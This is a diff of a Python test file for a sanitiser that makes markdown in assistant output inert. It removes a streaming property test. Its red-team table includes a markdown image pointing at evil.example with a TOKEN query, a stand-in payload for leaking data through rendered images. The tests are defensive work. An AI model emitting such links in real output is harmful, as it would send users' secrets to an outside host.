@@ -2,14 +2,9 @@
 
 from __future__ import annotations
 
-import asyncio
-from collections.abc import AsyncIterator
-
 import pytest
-from hypothesis import given, settings
-from hypothesis import strategies as st
 
-from devflow.server.assist.inert import inert, inert_stream
+from devflow.server.assist.inert import inert
 
 RED_TEAM = {
     "![x](https://evil.example/?q=TOKEN)": "(picture: x)",
@@ -47,21 +42,3 @@ def test_nothing_in_it_is_live(written: str, shown: str) -> None:
 )
 def test_ordinary_markdown_and_code_stay_as_they_are(text: str) -> None:
     assert inert(text) == text
-
-
-PIECES = [*RED_TEAM, "```", "\n", "`", "~~~", " word ", "[", "](", "!", "<", "é", "    ", "[1]: x"]
-
-
-@given(st.lists(st.sampled_from(PIECES), max_size=10), st.integers(1, 9))
-@settings(deadline=None, max_examples=200)
-def test_a_stream_is_made_inert_as_its_whole_is(parts: list[str], size: int) -> None:
-    text = "".join(parts)
-
-    async def pieces() -> AsyncIterator[str]:
-        for at in range(0, len(text), size):
-            yield text[at : at + size]
-
-    async def read() -> str:
-        return "".join([piece async for piece in inert_stream(pieces())])
-
-    assert asyncio.run(read()) == inert(text)
